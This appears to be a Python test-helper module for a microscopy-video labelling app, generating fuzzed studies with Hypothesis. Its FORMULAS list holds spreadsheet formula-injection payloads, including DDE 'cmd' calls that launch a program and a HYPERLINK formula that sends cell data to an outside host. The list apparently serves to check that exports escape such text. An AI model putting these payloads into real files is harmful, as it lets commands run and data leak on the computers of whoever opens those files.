"""Made-up studies, and what an edit makes of them, without any disk.

For a long run: LIVERWORT_EXAMPLES=1000 python -m pytest tests/study/exchange
"""

import os
from dataclasses import replace

from hypothesis import HealthCheck, settings
from hypothesis import strategies as st

from liverwort_gui.study import edits
from liverwort_gui.study_records import (
    TABLES,
    ClipEntry,
    Edit,
    LabelClass,
    Note,
    StudyState,
    Suggestion,
    VideoEntry,
)

# Without time limits, which a busy computer would break.
fuzz = settings(
    max_examples=int(os.environ.get("LIVERWORT_EXAMPLES", "100")),
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)

WILD_TYPE = LabelClass("c-wt", "wild type", "#0072b2", "1", 0)
MUTANT = LabelClass("c-mut", "mutant", "#d55e00", "2", 1)
FORMULAS = (
    "=1+1",
    "=cmd|'/C calc'!A0",
    "+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    '=HYPERLINK("http://example.org?x="&A1,"click")',
    "=IMPORTXML(CONCAT(A1))",
    "\t=1+1",
    "\r=1+1",
    "\0=1+1",
    "\n=1+1",
    " =1+1",
    "   @SUM(1)",
    "'=1+1",
    "''=1+1",
    "a;=1+1",
    "a\n=1+1",
    "a\r\n+1",
    "＝1+1",
    '"=1+1"',
    '=1+1";=1+1',
    "-1",
    "%0A-3+3+cmd|' /C calc'!D2",
)


def video(number=1, name="a.avi", **values):
    return VideoEntry(
        id=values.pop("id", f"v{number}"),
        number=number,
        relative=values.pop("relative", f"films/{name}"),
        absolute=values.pop("absolute", f"/data/films/{name}"),
        sha256=values.pop("sha256", f"{number:064x}"),
        reader="movie",
        n_frames=100,
        height=300,
        width=400,
        **values,
    )


def clip(number=1, of="v1", **values):
    return ClipEntry(
        id=values.pop("id", f"k{number}"),
        number=number,
        video=of,
        start=values.pop("start", number),
        corners=values.pop("corners", ((10, 20),)),
        size=values.pop("size", 64),
        frames=values.pop("frames", 4),
        **values,
    )


def labelled(number=1, label="c-mut", by="Anna", **values):
    at = values.pop("labelled_at", "2026-11-23T04:35:02+00:00")
    source = values.pop("label_source", "hand")
    return clip(
        number,
        label=label,
        labelled_by=by,
        labelled_at=at,
        label_source=source,
        **values,
    )


def study(*records, classes=(WILD_TYPE, MUTANT), **values):
    """Return a state that holds these records."""
    tables = {name: {} for name in TABLES.values()}
    for record in (*classes, *records):
        tables[TABLES[type(record)]][record.id] = record
    values.setdefault("path", "/studies/mine.liverwort")
    values.setdefault("user", "Ben")
    return StudyState(**values, **tables)


def applied(state: StudyState, edit: Edit) -> StudyState:
    """Return the state after an edit."""
    tables = {name: dict(getattr(state, name)) for name in TABLES.values()}
    for record in edit.drops:
        del tables[TABLES[type(record)]][record.id]
    for record in edit.puts:
        tables[TABLES[type(record)]][record.id] = record
    tables["classes"] = dict(
        sorted(tables["classes"].items(), key=lambda item: item[1].position)
    )
    return replace(state, **tables)


def fresh(state: StudyState, **values) -> StudyState:
    """Return an empty new study with the videos of `state`, under other ids."""
    rows = edits.fresh_classes()
    videos = [
        replace(row, id=f"other-{row.id}", number=row.number + 3)
        for row in state.videos.values()
    ]
    return study(*videos, classes=rows, **values)


def content(state: StudyState):
    """Return a study's clips as people see them: no ids of classes and videos."""
    names = {row.id: row.name for row in state.classes.values()}
    contents = {row.id: row.content for row in state.videos.values()}
    return {
        row.id: replace(
            row, label=names.get(row.label, ""), video=str(contents[row.video])
        )
        for row in state.clips.values()
    }


# Text as users type it, rich in what spreadsheets spoil.
SPOILERS = "';=+-@\t\r\n\0,\" ＝a1"
texts = st.one_of(
    st.sampled_from(FORMULAS),
    st.text(
        st.one_of(st.sampled_from(SPOILERS), st.characters(codec="utf-8")), max_size=12
    ),
)
ids = st.text("0123456789abcdef", min_size=16, max_size=16)


@st.composite
def classes_of(draw):
    state = study(classes=())
    for name in draw(st.lists(texts, max_size=3)):
        row = replace(WILD_TYPE, name=name.strip())
        known = {edits_folded(other.name) for other in state.classes.values()}
        if row.name and edits_folded(row.name) not in known:
            state = applied(state, edits.add_class(state, name))
    return tuple(state.classes.values())


def edits_folded(name):
    return " ".join(name.casefold().split())


@st.composite
def clips_of(draw, videos, classes):
    size = draw(st.integers(16, 256))
    frames = draw(st.integers(1, 5))
    corner = st.tuples(st.integers(0, 400 - size), st.integers(0, 300 - size))
    count = draw(st.sampled_from((1, frames)))
    looked_at = draw(st.sampled_from(("", "unsure", "label")))
    label = ""
    if looked_at == "label" and classes:
        label = draw(st.sampled_from(classes)).id
    unsure = looked_at == "unsure"
    signed = bool(label) or unsure
    return ClipEntry(
        id=draw(ids),
        number=0,
        video=draw(st.sampled_from(videos)).id,
        start=draw(st.integers(0, 100 - frames)),
        corners=tuple(draw(corner) for _ in range(count)),
        size=size,
        frames=frames,
        label=label,
        unsure=unsure,
        label_source=draw(st.sampled_from(("hand", "genotype"))) if signed else "",
        labelled_by=draw(texts) if signed else "",
        labelled_at=draw(st.sampled_from(("2026-11-23T04:35:02+00:00", "")))
        if signed
        else "",
        excluded=draw(st.booleans()),
        origin=draw(st.sampled_from(("hand", "suggestion", "import", "simulated"))),
        note=draw(texts),
    )


@st.composite
def studies(draw):
    """Return any study: classes, videos with metadata, clips, notes, suggestions."""
    classes = draw(classes_of())
    contents = draw(
        st.lists(
            st.tuples(
                st.text("0123456789abcdef", min_size=64, max_size=64),
                st.none() | st.integers(0, 3),
                st.sampled_from("tz"),
            ),
            min_size=1,
            max_size=3,
            unique=True,
        )
    )
    numbers = st.none() | st.floats(1e-6, 1e8, allow_nan=False)
    videos = [
        video(
            n,
            draw(st.text("ab=ü;", min_size=1, max_size=4)) + ".avi",
            sha256=sha256,
            channel=channel,
            time_axis=axis,
            fps=draw(numbers),
            um_per_px=draw(numbers),
            genotype=draw(texts),
            culture=draw(texts),
            date=draw(texts | st.just("2026-11-23")),
            note=draw(texts),
        )
        for n, (sha256, channel, axis) in enumerate(contents, start=1)
    ]
    drawn = draw(
        st.lists(clips_of(videos, classes), max_size=5, unique_by=lambda row: row.id)
    )
    clips = [replace(row, number=n) for n, row in enumerate(drawn, start=1)]
    notes = [
        Note(f"n{n}", "v1", n, n + 2, f"{draw(texts)}.", draw(texts))
        for n in range(draw(st.integers(0, 2)))
    ]
    suggestions = [
        Suggestion(f"s{n}", "v1", n, ((1, 2),), 32, draw(st.floats(0, 9)))
        for n in range(draw(st.integers(0, 2)))
    ]
    return study(*videos, *clips, *notes, *suggestions, classes=classes)
